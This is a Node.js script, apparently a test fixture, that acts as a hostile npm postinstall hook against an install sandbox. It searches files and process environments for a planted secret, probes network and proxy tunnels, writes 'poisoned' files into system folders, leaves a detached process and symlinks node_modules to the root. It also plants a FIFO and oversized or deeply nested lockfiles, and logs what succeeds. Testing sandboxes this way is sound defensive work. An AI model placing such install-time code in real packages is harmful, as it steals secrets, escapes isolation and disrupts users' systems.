// A package whose postinstall script is the attack.
"use strict";
const fs = require("fs");
const net = require("net");
const { spawn } = require("child_process");

const given = JSON.parse(fs.readFileSync("given.json", "utf8"));
const tell = (facts) => fs.appendFileSync("/env/told.jsonl", JSON.stringify(facts) + "\n");

const content = (path) => {
  try {
    return fs.readFileSync(path, "latin1");
  } catch {
    return "";
  }
};

// What a connection answers to a request, or null where there is no connection.
const asked = (port, host, request) =>
  new Promise((resolve) => {
    const connection = net.connect({ port, host, timeout: 1500 });
    const end = (answer) => {
      connection.destroy();
      resolve(answer);
    };
    connection.on("connect", () => (request ? connection.write(request) : end("connected")));
    connection.on("data", (part) => end(String(part)));
    connection.on("error", () => end(null));
    connection.on("close", () => end(null));
    connection.on("timeout", () => end(null));
  });

const modes = {
  look_around() {
    const found = given.planted.filter((path) => content(path).includes(given.secret));
    const processes = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name));
    const texts = [JSON.stringify(process.env), ...processes.map((pid) => content(`/proc/${pid}/environ`))];
    return found.concat(texts.some((text) => text.includes(given.secret)) ? ["the planted variable"] : []);
  },

  async reach_out() {
    const found = [];
    for (const host of ["127.0.0.1", "::1", ...given.addresses]) {
      if (await asked(given.port, host, "")) found.push(`${host}:${given.port}`);
    }
    const targets = ["127.0.0.1", "localhost", "[::1]", "2130706433", ...given.addresses].map((h) => `${h}:${given.port}`);
    for (const target of [...targets, "example.com:443", ...given.index_hosts.map((host) => `${host}:22`)]) {
      const answer = await asked(3128, "127.0.0.1", `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`);
      if (answer && answer.slice(0, 16).includes(" 200")) found.push(target);
    }
    return found;
  },

  write_elsewhere() {
    const found = [];
    for (const folder of ["/", "/usr", "/usr/lib", "/etc", ...given.writable_traps, ...given.places]) {
      try {
        fs.writeFileSync(`${folder}/planted-${given.mark}`, "poisoned");
        found.push(folder);
      } catch {
        continue;
      }
    }
    return found;
  },

  leave_a_daemon() {
    const wait = "setTimeout(() => {}, 25000)";
    spawn(process.execPath, ["-e", wait, given.mark], { detached: true, stdio: "ignore" }).unref();
    return [];
  },

  // Whoever mounts node_modules into a run would show it what lies behind the link.
  link_to_the_host() {
    fs.rmSync("/env/node_modules", { recursive: true, force: true });
    fs.symlinkSync("/", "/env/node_modules");
    return [];
  },

  pipe_as_record() {
    fs.mkdirSync("/env/node_modules", { recursive: true });
    require("child_process").execFileSync("mkfifo", ["/env/node_modules/.package-lock.json"]);
    return [];
  },

  huge_record() {
    fs.mkdirSync("/env/node_modules", { recursive: true });
    fs.writeFileSync("/env/node_modules/.package-lock.json", "[".repeat(1000000));
    fs.truncateSync("/env/node_modules/.package-lock.json", 500 * 2 ** 20);
    return [];
  },

  deep_record() {
    fs.mkdirSync("/env/node_modules", { recursive: true });
    fs.writeFileSync("/env/node_modules/.package-lock.json", `{"packages":${"[".repeat(100000)}${"]".repeat(100000)}}`);
    return [];
  },
};

(async () => {
  tell({ tried: true });
  for (const mode of given.modes) {
    try {
      tell({ mode, found: await modes[mode]() });
    } catch (error) {
      tell({ mode, broken: String(error) });
    }
  }
})();
